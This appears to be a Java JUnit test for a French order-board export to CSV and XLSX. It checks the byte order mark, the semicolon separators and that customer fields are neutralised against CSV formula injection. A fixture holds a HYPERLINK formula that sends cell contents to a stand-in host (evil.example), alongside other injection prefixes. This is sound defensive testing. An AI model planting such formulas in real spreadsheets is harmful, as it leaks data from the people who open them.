package fr.cession.papers;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.StringReader;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.Arrays;
import java.util.List;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The board's list exported for French Excel: UTF-8 with its byte order mark, ";" between cells,
 * and a customer typed as a formula exported harmless in CSV and XLSX.
 */
class PapersExportTest {

    private static final String EVIL = "=HYPERLINK(\"http://evil.example/?x=\"&A1;\"Cliquez\")";

    private static Table board() {
        return new Table("Tableau", List.of("N° de commande", "Client", "Prix", "Remise"), List.of(
                Arrays.asList("LYON-2026-0042", "Karim Benali", new BigDecimal("12990.00"), LocalDate.of(2026, 3, 23)),
                Arrays.asList("LYON-2026-0043", EVIL, new BigDecimal("1234.5"), null),
                Arrays.asList("LYON-2026-0044", "+33 6 12 34 56 78", null, null),
                Arrays.asList("LYON-2026-0045", "-Moins", null, null),
                Arrays.asList("LYON-2026-0046", "@SUM(A1:A2)", null, null),
                Arrays.asList("LYON-2026-0047", "\tTab", null, null),
                Arrays.asList("LYON-2026-0048", "Élodie Lefèvre; « pro »", null, null)));
    }

    @Test
    void csvIsUtf8WithABomSemicolonsAndNoFormula() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        TableExport.csv(board(), out);
        byte[] bytes = out.toByteArray();
        assertThat(Arrays.copyOf(bytes, 3)).containsExactly(0xEF, 0xBB, 0xBF);

        String text = new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8);
        List<CSVRecord> rows = CSVFormat.Builder.create(CSVFormat.EXCEL).setDelimiter(';').get()
                .parse(new StringReader(text)).getRecords();
        assertThat(rows.get(0).toList()).containsExactly("N° de commande", "Client", "Prix", "Remise");
        assertThat(rows.get(1).toList()).containsExactly("LYON-2026-0042", "Karim Benali", "12990,00", "23/03/2026");
        // the customer is kept whole, behind an apostrophe Excel reads as "this is text"
        assertThat(rows.get(2).get(1)).isEqualTo("'" + EVIL);
        assertThat(rows.get(2).get(2)).isEqualTo("1234,50");
        assertThat(rows.subList(3, 7)).extracting(r -> r.get(1))
                .containsExactly("'+33 6 12 34 56 78", "'-Moins", "'@SUM(A1:A2)", "'\tTab");
        assertThat(rows.get(7).get(1)).isEqualTo("Élodie Lefèvre; « pro »");
        assertThat(rows).allSatisfy(r -> assertThat(r.toList()).noneMatch(FormulaGuard::risky));
    }

    @Test
    void xlsxWritesInlineStringsAndNeverAFormula() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        TableExport.xlsx(board(), out);
        String sheet = entry(out.toByteArray(), "xl/worksheets/sheet1.xml");

        assertThat(sheet).doesNotContain("<f>").doesNotContain("<f ");
        // the customer as typed, in a text cell
        assertThat(sheet).contains("t=\"inlineStr\"><is><t>=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1;&quot;Cliquez&quot;)</t></is>");
        // fastexcel writes what is not ASCII as character references
        assertThat(sheet).contains("<t>&#xc9;lodie Lef&#xe8;vre; &#xab; pro &#xbb;</t>");
        // amounts are numbers Excel can add up
        assertThat(sheet).contains("<v>12990.00</v>").contains("<v>1234.5</v>");
        assertThat(sheet).doesNotContain("t=\"s\"");
    }

    /** Read through the central directory, as Excel does (the entries stream with data descriptors). */
    private static String entry(byte[] zip, String name) throws IOException {
        Path file = Files.createTempFile("export", ".xlsx");
        try {
            Files.write(file, zip);
            try (ZipFile z = new ZipFile(file.toFile())) {
                ZipEntry e = z.getEntry(name);
                if (e == null) {
                    throw new IOException(name + " not in the workbook");
                }
                try (InputStream in = z.getInputStream(e)) {
                    return new String(in.readAllBytes(), StandardCharsets.UTF_8);
                }
            }
        } finally {
            Files.delete(file);
        }
    }
}
